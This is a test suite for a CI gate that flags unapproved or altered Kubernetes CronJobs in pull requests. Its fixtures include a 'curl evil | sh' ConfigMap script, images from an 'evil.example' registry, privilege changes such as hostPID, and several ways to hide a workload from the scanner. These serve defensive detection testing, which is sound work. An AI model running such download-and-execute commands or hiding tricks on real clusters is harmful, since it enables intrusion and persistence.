// The gate as its user runs it: real git repositories, the built program, exit codes and JSON.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { describe, expect, test } from 'vitest';
import { createRepository, type Files, type TestRepository } from '../support/git-repo.ts';
import { runCli } from '../support/run-cli.ts';

const root = path.resolve(import.meta.dirname, '..', '..');
const validators = Object.fromEntries(
  ['check', 'list', 'verify'].map(name => {
    const schema = JSON.parse(readFileSync(path.join(root, 'schema', `${name}.schema.json`), 'utf8'));
    return [name, new Ajv2020({ strict: false }).compile(schema)];
  }),
);

/** The report of a command; a report that its own schema refuses fails the test. */
async function json(repository: TestRepository, args: readonly string[], input?: string) {
  const run = await runCli([...args, '--format', 'json'], {
    cwd: repository.path,
    ...(input === undefined ? {} : { input }),
  });
  expect(run.stderr).toBe('');
  const report = JSON.parse(run.stdout);
  const validate = validators[args[0] ?? ''];
  expect(validate?.(report), JSON.stringify(validate?.errors)).toBe(true);
  return { code: run.code, report };
}

const check = (repository: TestRepository, ...more: readonly string[]) =>
  json(repository, ['check', '--base', 'main', '--head', 'change', ...more]);

function cronJob(
  name: string,
  more: {
    schedule?: string;
    image?: string;
    command?: string;
    spec?: string;
    pod?: string;
    namespace?: string | null;
  } = {},
): string {
  const {
    schedule = '0 2 * * *',
    image = 'ghcr.io/acme/tool:1',
    command = 'run',
    spec = '',
    pod = '',
    namespace = 'billing',
  } = more;
  return `apiVersion: batch/v1
kind: CronJob
metadata:
  name: ${name}
${namespace === null ? '' : `  namespace: ${namespace}\n`}spec:
  schedule: '${schedule}'
${spec}  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
${pod}          containers:
            - name: main
              image: ${image}
              command: [${command}]
`;
}

/** A repository whose `main` lists what it holds, and a branch `change` with the files of a pull request. */
async function pullRequest(base: Files, head: Files): Promise<TestRepository> {
  const repository = await createRepository(base);
  const init = await runCli(['inventory', 'init'], { cwd: repository.path });
  expect(init.code, init.stderr).toBe(0);
  await repository.commit({}, 'List what is there');
  await repository.git(['switch', '--quiet', '--create', 'change']);
  await repository.commit(head, 'The change');
  return repository;
}

describe('what the gate says of a change', () => {
  test('a new workload that nobody listed is a violation on its line', async () => {
    const repository = await pullRequest({ 'a.yaml': cronJob('a') }, { 'b/new.yaml': `# c\n---\n${cronJob('b')}` });
    const { code, report } = await check(repository);
    expect(code).toBe(1);
    expect(report.verdict).toBe('violation');
    expect(report.changes).toMatchObject([
      { change: 'added', classes: ['new'], workload: { name: 'b', listed: false, schedule: '0 2 * * *' } },
    ]);
    expect(report.findings).toMatchObject([
      {
        rule: 'job-not-in-inventory',
        severity: 'high',
        location: { path: 'b/new.yaml', line: 6, column: 3, precision: 'exact' },
        attack: ['T1053.007'],
      },
    ]);
    expect(report.needs).toMatchObject([{ status: 'pending', approvedBy: [] }]);
  });

  test('listed in the same pull request, it still needs an approval', async () => {
    const repository = await pullRequest({ 'a.yaml': cronJob('a') }, { 'b.yaml': cronJob('b') });
    const add = await runCli(['inventory', 'add', 'billing/b'], { cwd: repository.path });
    expect(add.code, add.stderr).toBe(0);
    await repository.commit({}, 'List it');
    const { code, report } = await check(repository);
    expect(code).toBe(3);
    expect(report.findings).toEqual([]);
    expect(report.needs.map((need: { name: string }) => need.name)).toContain("a reviewer of the gate's own files");
  });

  test('a new version of an approved image needs nobody', async () => {
    const repository = await pullRequest(
      { 'a.yaml': cronJob('a') },
      { 'a.yaml': cronJob('a', { image: 'ghcr.io/acme/tool:2' }) },
    );
    const { code, report } = await check(repository);
    expect(code).toBe(0);
    expect(report.changes).toMatchObject([
      {
        change: 'modified',
        classes: ['image'],
        fields: [
          {
            path: 'spec.jobTemplate.spec.template.spec.containers[0].image',
            before: 'ghcr.io/acme/tool:1',
            after: 'ghcr.io/acme/tool:2',
          },
        ],
      },
    ]);
  });

  test.each([
    ['another image', { image: 'evil.example/acme/tool:1' }, 'image-source', 15],
    ['a registry that only begins alike', { image: 'ghcr.io.evil.example/acme/tool:1' }, 'image-source', 15],
    ['another command', { command: 'sh, -c, evil' }, 'command', 16],
    ['another schedule', { schedule: '* * * * *' }, 'schedule', 7],
    ['another service account', { pod: '          serviceAccountName: admin\n' }, 'identity', 13],
    ['a way to the node', { pod: '          hostPID: true\n' }, 'privilege', 13],
  ] as const)('%s in an approved workload is a drift on its line', async (_name, change, kind, line) => {
    const repository = await pullRequest({ 'a.yaml': cronJob('a') }, { 'a.yaml': cronJob('a', change) });
    const { code, report } = await check(repository);
    expect(code).toBe(1);
    expect(report.changes[0].classes).toContain(kind);
    const drift = report.findings.filter((finding: { rule: string }) => finding.rule === 'job-drift-from-approved');
    expect(drift.map((finding: { location: { line: number } }) => finding.location.line)).toContain(line);
  });

  test('a job that wakes up is told, though nothing else differs', async () => {
    const repository = await pullRequest(
      { 'a.yaml': cronJob('a', { spec: '  suspend: true\n' }) },
      { 'a.yaml': cronJob('a') },
    );
    const { code, report } = await check(repository);
    expect(code).toBe(1);
    expect(report.changes[0].classes).toEqual(['unsuspended']);
    expect(report.findings).toMatchObject([{ rule: 'job-unsuspended', severity: 'high' }]);
  });

  test('what means the same is no change', async () => {
    const same = cronJob('a', {
      schedule: '@daily',
      spec: '  suspend: false\n  concurrencyPolicy: Allow\n',
      pod: '          dnsPolicy: ClusterFirst\n',
    });
    const repository = await pullRequest(
      { 'a.yaml': cronJob('a', { schedule: '0 0 * * *' }) },
      { 'a.yaml': `# again\n${same}` },
    );
    const { code, report } = await check(repository);
    expect(report.changes).toEqual([]);
    expect(code).toBe(0);
  });

  test('a workload that moved unchanged is moved, not removed and added', async () => {
    const repository = await pullRequest(
      { 'x/a.yaml': cronJob('a'), 'x/b.yaml': cronJob('b') },
      { 'x/a.yaml': null, 'x/all.yaml': cronJob('a') },
    );
    const { code, report } = await check(repository);
    expect(report.changes).toMatchObject([{ change: 'moved', classes: ['moved'] }]);
    expect(code).toBe(0);
  });

  test('a removal leaves its entry behind, which is told', async () => {
    const repository = await pullRequest({ 'a.yaml': cronJob('a'), 'b.yaml': cronJob('b') }, { 'a.yaml': null });
    const { report } = await check(repository);
    expect(report.changes).toMatchObject([{ change: 'removed', classes: ['removed'] }]);
    expect(report.findings).toMatchObject([
      { rule: 'inventory-entry-stale', location: { path: '.cronledger/inventory/billing.yaml' } },
    ]);
  });

  test('an entry that is taken away leaves its workload unlisted', async () => {
    const repository = await pullRequest(
      { 'a.yaml': cronJob('a'), 'other/b.yaml': cronJob('b') },
      { '.cronledger/inventory/billing.yaml': 'apiVersion: cronledger.dev/v1\nkind: Inventory\nworkloads: []\n' },
    );
    const { code, report } = await check(repository);
    expect(code).toBe(1);
    expect(report.changes).toEqual([]);
    expect(
      report.findings
        .map((finding: { rule: string; workload: { name: string } }) => [finding.rule, finding.workload.name])
        .sort(),
    ).toEqual([
      ['job-not-in-inventory', 'a'],
      ['job-not-in-inventory', 'b'],
    ]);
  });

  test('what was there before and is unlisted is counted, and flagged with --all', async () => {
    const both = `${cronJob('old')}---\n${cronJob('a')}`;
    const repository = await createRepository({
      'a.yaml': both,
      '.cronledger/inventory/x.yaml': 'apiVersion: cronledger.dev/v1\nkind: Inventory\n',
    });
    await repository.git(['switch', '--quiet', '--create', 'change']);
    await repository.commit({ 'a.yaml': both.replace('name: a\n', 'name: b\n') });
    const { report } = await check(repository);
    expect(report.stats.unlistedBefore).toBe(1);
    expect(report.findings.map((finding: { workload: { name: string } }) => finding.workload.name)).toEqual(['b']);
    const all = await check(repository, '--all');
    expect(all.report.findings.map((finding: { workload: { name: string } }) => finding.workload.name).sort()).toEqual([
      'b',
      'old',
    ]);
  });

  test('the script in a ConfigMap is part of what runs, also when only the script changes', async () => {
    const pod = '          volumes: [{name: s, configMap: {name: scripts}}]\n';
    const script = (text: string) =>
      `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: scripts, namespace: billing}\ndata:\n  run.sh: ${text}\n`;
    const repository = await pullRequest(
      { 'x/a.yaml': cronJob('a', { pod }), 'x/scripts.yaml': script('echo good') },
      { 'x/scripts.yaml': script('curl evil | sh') },
    );
    const { code, report } = await check(repository);
    expect(code).toBe(1);
    expect(report.changes).toMatchObject([
      {
        classes: ['command'],
        fields: [{ path: 'ConfigMap scripts: run.sh', before: 'echo good', after: 'curl evil | sh' }],
      },
    ]);
    expect(report.findings).toMatchObject([
      { rule: 'download-and-execute', location: { path: 'x/scripts.yaml', line: 5 } },
      { rule: 'job-drift-from-approved', location: { path: 'x/scripts.yaml', line: 5 } },
    ]);
  });

  test('environments with objects of one name are told apart by their folder', async () => {
    const repository = await pullRequest(
      { 'prod/a.yaml': cronJob('a'), 'staging/a.yaml': cronJob('a', { schedule: '0 5 * * *' }) },
      { 'prod/a.yaml': cronJob('a', { command: 'evil' }) },
    );
    const { report } = await check(repository);
    expect(report.changes).toMatchObject([{ change: 'modified', workload: { source: { path: 'prod' } } }]);
    expect(report.findings).toMatchObject([{ rule: 'job-drift-from-approved', location: { path: 'prod/a.yaml' } }]);
  });
});

describe('how a workload is hidden', () => {
  const hidden: readonly [string, Files][] = [
    [
      'in a List',
      {
        'x.yaml': `apiVersion: v1\nkind: List\nitems:\n${cronJob('evil').replace(/^/gm, '    ').replace('    apiVersion', '  - apiVersion')}`,
      },
    ],
    ['in a file of another name', { 'notes.txt': cronJob('evil') }],
    ['behind an executable bit', { 'run.yaml': { executable: cronJob('evil') } }],
    [
      'in JSON, spelled with escapes',
      {
        'x.json':
          '{"apiVersion":"batch/v1","kind":"Cron\\u004aob","metadata":{"name":"evil","namespace":"billing"},"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"x","image":"y"}]}}}}}}',
      },
    ],
    ['behind a link', { 'real.txt.bak': cronJob('evil'), 'x.yaml': { link: 'real.txt.bak' } }],
    ['in UTF-16', { 'x.yaml': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(cronJob('evil'), 'utf16le')]) }],
    [
      'after a comment that does not end where it seems to',
      { 'x.yaml': `apiVersion: batch/v1 # see\u2028kind: CronJob\n${cronJob('evil').split('\n').slice(2).join('\n')}` },
    ],
  ];
  test.each(hidden)('%s', async (_name, files) => {
    const repository = await pullRequest({ 'a.yaml': cronJob('a') }, files);
    const { code, report } = await check(repository);
    expect([1, 2]).toContain(code);
    expect(report.changes.map((change: { workload: { name: string } }) => change.workload.name)).toContain('evil');
  });

  test('a file that stops parsing is not a removal', async () => {
    const repository = await pullRequest({ 'a.yaml': cronJob('a') }, { 'a.yaml': `${cronJob('a')}  broken: [\n` });
    const { code, report } = await check(repository);
    expect(code).toBe(2);
    expect(report.verdict).toBe('could-not-check');
    expect(report.problems).toMatchObject([{ code: 'unreadable-manifest', path: 'a.yaml' }]);
  });

  test('the config, the policies and the inventory of the head do not decide', async () => {
    const repository = await pullRequest(
      { 'a.yaml': cronJob('a') },
      { 'b.yaml': cronJob('b'), '.cronledger/config.yaml': 'policies: {blockAt: never}\napprovals: []\n' },
    );
    const { code, report } = await check(repository);
    expect(code).toBe(1);
    expect(report.needs.length).toBeGreaterThan(0);
  });
});

describe('references are not workloads', () => {
  test('lists of objects to delete, patches that delete, health checks', async () => {
    const repository = await pullRequest(
      { 'a.yaml': cronJob('a') },
      {
        'delete.yaml':
          'apiVersion: v1\nkind: List\nitems:\n  - {apiVersion: batch/v1, kind: CronJob, metadata: {name: x, namespace: billing}}\n',
        'patch.yaml': 'apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: x}\n$patch: delete\nspec: {}\n',
        'flux.yaml':
          'apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata: {name: x}\nspec:\n  path: ./nowhere\n  healthChecks: [{apiVersion: batch/v1, kind: CronJob, name: x, namespace: billing}]\n',
      },
    );
    const { report } = await check(repository);
    expect(report.changes).toEqual([]);
  });
});

test('two approved images that change places need an approval', async () => {
  const two = (one: string, other: string) =>
    cronJob('a', { image: one }).replace(
      '              command: [run]',
      `              command: [run]\n            - name: side\n              image: ${other}`,
    );
  const repository = await pullRequest(
    { 'a.yaml': two('ghcr.io/acme/a:1', 'ghcr.io/acme/b:1') },
    { 'a.yaml': two('ghcr.io/acme/b:1', 'ghcr.io/acme/a:1') },
  );
  const { code, report } = await check(repository);
  expect(report.changes).toMatchObject([{ classes: ['image-source'] }]);
  expect(code).toBe(3);
});
